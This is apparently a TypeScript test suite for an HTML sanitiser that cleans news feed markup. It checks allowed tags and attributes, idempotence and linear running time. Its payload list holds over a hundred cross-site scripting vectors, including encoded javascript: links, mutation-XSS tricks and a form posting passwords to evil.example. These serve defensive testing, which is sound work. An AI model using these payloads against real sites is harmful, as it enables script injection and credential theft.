import assert from 'node:assert/strict';
import { test } from 'node:test';
import fc from 'fast-check';
import { Parser } from 'htmlparser2';
import { ALLOWED_ATTRIBUTES, ALLOWED_TAGS } from './markup/sanitise-rules.ts';
import { sanitise } from './sanitise.ts';

const BASE = 'https://news.example/world/story.html';

/** Every < of the output opens or closes an allowed element, written out plainly; so any parser reads it alike. */
const PLAIN_TAG = /^<(?:\/[a-z0-9]+|[a-z0-9]+(?: [a-z]+(?:="[^"<>]*")?)*(?: \/)?)>/;

function assertSafe(clean: string, payload: string): void {
  const shown = JSON.stringify({ payload: payload.slice(0, 300), clean: clean.slice(0, 300) });
  for (let at = clean.indexOf('<'); at !== -1; at = clean.indexOf('<', at + 1)) {
    assert.match(clean.slice(at, at + 20_000), PLAIN_TAG, shown);
  }
  new Parser({
    onopentag: (name, attribs) => {
      assert.ok(ALLOWED_TAGS.includes(name), `${name}: ${shown}`);
      for (const [attribute, value] of Object.entries(attribs))
        assertAttribute(name, attribute, value, shown);
    },
    oncomment: () => assert.fail(`a comment: ${shown}`),
    onprocessinginstruction: () => assert.fail(`an instruction: ${shown}`),
  }).end(clean);
}

function assertAttribute(tag: string, name: string, value: string, shown: string): void {
  const allowed = [...(ALLOWED_ATTRIBUTES[tag] ?? []), ...(ALLOWED_ATTRIBUTES['*'] ?? [])];
  assert.ok(allowed.includes(name), `${tag} ${name}: ${shown}`);
  if (name === 'href') assert.match(value, /^(?:https?:\/\/|mailto:)/, shown);
  if (name === 'src' || name === 'poster') assert.match(value, /^https?:\/\//, shown);
}

/** Shapes of attack, each in its own words. */
const PAYLOADS: readonly string[] = [
  '<script>steal()</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>steal()</scr</script>ipt>',
  '<script/x>steal()</script >',
  '<script\n>steal()</script\n>',
  '<<script>steal()//<</script>',
  '<p onclick="steal()">a</p>',
  '<p ONMOUSEOVER=steal()>a</p>',
  '<img src=https://x.example/a.png onerror=steal()>',
  '<img/src="x"/onerror=steal()>',
  '<img src=x:x onerror="steal()" />',
  '<p/onpointerenter="steal()"/class=x>a',
  '<p "onclick=steal()">a</p>',
  '<p a="\'"onclick="steal()">a',
  '<a href="javascript:steal()">a</a>',
  '<a href="JaVaScRiPt:steal()">a</a>',
  '<a href=" javascript:steal()">a</a>',
  '<a href="java\tscript:steal()">a</a>',
  '<a href="java&#10;script:steal()">a</a>',
  '<a href="java&Tab;script&colon;steal()">a</a>',
  '<a href="&#106;&#97;&#118;&#97;script:steal()">a</a>',
  '<a href="&#x6A&#x61&#x76&#x61&#x73cript:steal()">a</a>',
  '<a href="\u0001javascript:steal()">a</a>',
  '<a href="\u00a0javascript:steal()">a</a>',
  '<a href="vbscript:steal()">a</a>',
  '<a href="data:text/html,<script>steal()</script>">a</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD4=">a</a>',
  '<a href="blob:https://news.example/1">a</a>',
  '<a href="file:///etc/passwd">a</a>',
  '<a href="view-source:https://x.example">a</a>',
  '<a href="feed:javascript:steal()">a</a>',
  '<a href="//evil.example/x" target="_blank" ping="https://t.example">a</a>',
  '<a xlink:href="javascript:steal()">a</a>',
  '<img src="data:image/svg+xml,<svg onload=steal()>">',
  '<img src="javascript:steal()">',
  '<img srcset="javascript:steal() 1x, data:x 2x">',
  '<img src=https://x.example/a.png srcset="https://x.example/b.png 2x" sizes=100vw usemap=#m ismap>',
  '<img lowsrc="javascript:steal()" dynsrc="javascript:steal()">',
  '<iframe src="https://evil.example"></iframe>',
  '<iframe srcdoc="<script>steal()</script>"></iframe>',
  '<iframe src="javascript:steal()">text</iframe>',
  '<frameset><frame src="javascript:steal()"></frameset>',
  '<object data="evil.swf"><embed src="evil.swf"></object>',
  '<embed src="javascript:steal()">',
  '<applet code=Evil></applet>',
  '<form action="https://evil.example"><input name=password><button>Go</button></form>',
  '<button formaction="javascript:steal()">a</button>',
  '<input type=image src=x formaction="javascript:steal()">',
  '<isindex action="javascript:steal()" type=image>',
  '<textarea autofocus onfocus=steal()></textarea>',
  '<select><option><img src=x onerror=steal()></select>',
  '<svg onload=steal()>',
  '<svg><script>steal()</script></svg>',
  '<svg><a xlink:href="javascript:steal()"><text>a</text></a></svg>',
  '<svg><animate attributeName=href values="javascript:steal()"/></svg>',
  '<svg><foreignObject><p onclick=steal()>a</p></foreignObject></svg>',
  '<svg><style><img src=x onerror=steal()></style></svg>',
  '<svg></p><style><a id="</style><img src=1 onerror=steal()>">',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=steal()&gt;">',
  '<math href="javascript:steal()">a</math>',
  '<math><annotation-xml encoding="text/html"><script>steal()</script></annotation-xml></math>',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=steal()>',
  '<noscript><p title="</noscript><img src=x onerror=steal()>">',
  '<xmp><p title="</xmp><img src=x onerror=steal()>"></xmp>',
  '<noembed><p title="</noembed><img src=x onerror=steal()>">',
  '<noframes><p title="</noframes><script>steal()</script>">',
  '<title><p title="</title><script>steal()</script>">',
  '<textarea><p title="</textarea><script>steal()</script>">',
  '<template><script>steal()</script></template>',
  '<plaintext><script>steal()</script>',
  '<style>@import "https://evil.example/x.css"; p { background: url(javascript:steal()) }</style>',
  '<p style="background:url(https://evil.example/log)">a</p>',
  '<p style="position:fixed;inset:0;z-index:9999">a</p>',
  '<link rel=stylesheet href="https://evil.example/x.css">',
  '<link rel=prefetch href="https://evil.example/log">',
  '<meta http-equiv=refresh content="0;url=javascript:steal()">',
  '<meta http-equiv="Set-Cookie" content="a=b">',
  '<base href="https://evil.example/">',
  '<!--[if gte IE 4]><script>steal()</script><![endif]-->',
  '<!-- --!><script>steal()</script> -->',
  '<!--><script>steal()</script>-->',
  '<![CDATA[<script>steal()</script>]]>',
  '<?xml version="1.0"?><?php steal() ?>',
  '<!DOCTYPE html [<!ENTITY x "<script>steal()</script>">]>&x;',
  '<p id=cookie name=body class=admin>a</p>',
  '<a id=location name=location href=https://x.example>a</a>',
  '<img name=getElementById src=https://x.example/a.png>',
  '<form id=document><input name=attributes></form>',
  '<p is="evil-element" slot=x part=y contenteditable accesskey=x tabindex=1 draggable popover>a</p>',
  '<details open ontoggle=steal()>a</details>',
  '<video src=x onloadstart=steal()><source onerror=steal()></video>',
  '<video poster="javascript:steal()" src="data:video/mp4,x"></video>',
  '<audio src="javascript:steal()" autoplay></audio>',
  '<marquee onstart=steal()>a</marquee>',
  '<blink>a</blink><bgsound src="javascript:steal()"><layer src=x>',
  '<dialog open>a</dialog><portal src=https://x.example></portal><fencedframe></fencedframe>',
  '<table background="javascript:steal()"><td background=x>a</table>',
  '<body onload=steal() background="javascript:steal()">a</body>',
  '<html manifest=x onfocus=steal()>a</html>',
  '<blockquote cite="javascript:steal()">a</blockquote><q cite="data:x">b</q>',
  '<del cite="javascript:steal()">a</del>',
  '&lt;script&gt;steal()&lt;/script&gt;',
  '&amp;lt;img src=x onerror=steal()&amp;gt;',
  '<p title="&quot;&gt;&lt;script&gt;steal()&lt;/script&gt;">a</p>',
  '<abbr title="\'><script>steal()</script>">a</abbr>',
  '<img alt="</p><script>steal()</script>" src="https://x.example/a.png">',
  '<a title="`onmouseover=steal()" href="https://x.example">a</a>',
  '<p\u0000onclick=steal()>a</p>',
  '<img src="https://x.example/a.png"\u000bonerror=steal()>',
  '\u00bcscript\u00beSteal()\u00bc/script\u00be',
  '+ADw-script+AD4-steal()+ADw-/script+AD4-',
  '<a href="https://user:secret@x.example/">a</a>',
  '<a href="https://x.example/" rel="opener">a</a>',
  '<img src="https://x.example/a.png" fetchpriority=high loading=eager referrerpolicy=unsafe-url crossorigin>',
  '<custom-element onclick=steal()><x:y z=1>a</x:y></custom-element>',
  '<p><table><p></table></p></b></i><ul><li></ol>',
  '<a<b<c href="javascript:steal()">',
  '<p',
  '<a href="https://x.example',
  '</',
  '<',
];

test('whatever a feed sends, only allowed elements and attributes come out', () => {
  for (const payload of PAYLOADS) assertSafe(sanitise(payload, BASE), payload);
});

test('an attack inside ordinary markup is as harmless', () => {
  for (const payload of PAYLOADS) {
    for (const around of [
      `<p>a ${payload} b</p>`,
      `<table><tr><td>${payload}`,
      `<a href="/x">${payload}</a>`,
      `<pre>${payload}</pre>`,
    ]) {
      assertSafe(sanitise(around, null), around);
    }
  }
});

test('sanitising twice changes nothing', () => {
  for (const payload of PAYLOADS) {
    const once = sanitise(`<p>${payload}<div>${payload}`, BASE);
    assert.equal(sanitise(once, BASE), once);
  }
});

const pieces = fc.constantFrom(
  ...PAYLOADS,
  ...ALLOWED_TAGS.flatMap((tag) => [`<${tag}>`, `</${tag}>`]),
  ...['section', 'span', 'font', 'form', 'svg', 'math', 'x-y', 'center', 'h1'].flatMap((tag) => [
    `<${tag}>`,
    `</${tag}>`,
  ]),
  'some words',
  ' ',
  '&amp;',
  '&#0;',
  '"',
);

test('no order of pieces gets through, and twice is once', () => {
  fc.assert(
    fc.property(fc.array(pieces, { maxLength: 25 }), (parts) => {
      const payload = parts.join('');
      const once = sanitise(payload, BASE);
      assertSafe(once, payload);
      assert.equal(sanitise(once, BASE), once);
    }),
    { numRuns: 600 },
  );
});

const kept: readonly (readonly [string, string, string])[] = [
  ['a headline becomes a second-level one', '<h1>News</h1>', '<h2>News</h2>'],
  [
    'relative links are made absolute',
    '<a href="../a?b=1">x</a>',
    '<a href="https://news.example/a?b=1" rel="noopener noreferrer nofollow">x</a>',
  ],
  [
    'tracking parameters go, the others stay in order',
    '<a href="https://x.example/?b=2&utm_source=rss&fbclid=1&a=%20">x</a>',
    '<a href="https://x.example/?b=2&amp;a=%20" rel="noopener noreferrer nofollow">x</a>',
  ],
  [
    'mail links stay',
    '<a href="mailto:desk@news.example">x</a>',
    '<a href="mailto:desk@news.example" rel="noopener noreferrer nofollow">x</a>',
  ],
  ['links into the page lose their link', '<a href="#note1">x</a>', '<a>x</a>'],
  [
    'pictures load late and tell nobody',
    '<img src="/a.jpg" alt="A boat" width="600" height="40%">',
    '<img src="https://news.example/a.jpg" width="600" alt="A boat" loading="lazy" decoding="async" referrerpolicy="no-referrer" />',
  ],
  [
    'a picture that loads late is found',
    '<img src="data:image/gif;base64,R0" data-src="/b.jpg">',
    '<img src="https://news.example/b.jpg" alt="" loading="lazy" decoding="async" referrerpolicy="no-referrer" />',
  ],
  ['a pixel goes', 'a<img src="https://t.example/x" width="1" height="1">', 'a'],
  ['a known beacon goes', 'a<img src="https://pixel.wp.com/b.gif?x=1">', 'a'],
  [
    'tables keep their shape',
    '<table><tr><td colspan="2" style="x">a</td></tr></table>',
    '<table><tr><td colspan="2">a</td></tr></table>',
  ],
  [
    'a sound keeps its source and gets controls',
    '<audio src="/a.mp3" autoplay>old browser</audio>',
    '<audio src="https://news.example/a.mp3" controls preload="none">old browser</audio>',
  ],
  [
    'what stood apart stands apart',
    '<section>a</section><section>b</section>',
    '<div>a</div><div>b</div>',
  ],
  ['text is text', 'Smith & Sons < 5 > 3 "quoted"', 'Smith &amp; Sons &lt; 5 &gt; 3 "quoted"'],
  ['text without markup comes back as it is', 'Plain words.', 'Plain words.'],
];

test('what a reader may see stays', () => {
  for (const [name, markup, expected] of kept) assert.equal(sanitise(markup, BASE), expected, name);
});

test('without a base, relative addresses go and the words stay', () => {
  assert.equal(sanitise('<a href="/a">x</a><img src="/b.jpg">', null), '<a>x</a>');
});

/** CPU seconds, generous for slow machines; quadratic readings of these take minutes. */
const LIMIT = 12;

test('huge and deep markup ends, in linear time', () => {
  const monsters = [
    '<b>'.repeat(1_500_000),
    '<div>'.repeat(20_000) + 'x'.repeat(4_000),
    '</p>'.repeat(500_000),
    '<p '.concat('a b=c '.repeat(400_000), '>x'),
    '<svg><math>'.repeat(200_000),
    '<iframe>'.repeat(100_000),
    '<!--'.repeat(500_000),
    '<'.repeat(1_000_000),
    '<p>word</p>'.repeat(600_000),
  ];
  for (const monster of monsters) {
    const started = process.cpuUsage();
    const clean = sanitise(monster, BASE);
    const { user, system } = process.cpuUsage(started);
    assert.ok((user + system) / 1e6 < LIMIT, monster.slice(0, 20));
    assert.ok(deepest(clean) <= 300, monster.slice(0, 20));
  }
});

function deepest(clean: string): number {
  let [depth, most] = [0, 0];
  new Parser({
    onopentag: () => {
      depth += 1;
      most = Math.max(most, depth);
    },
    onclosetag: () => {
      depth -= 1;
    },
  }).end(clean);
  return most;
}

test('text below the deepest element stays', () => {
  assert.match(sanitise(`${'<div>'.repeat(3_000)}deep words`, BASE), /deep words/);
});
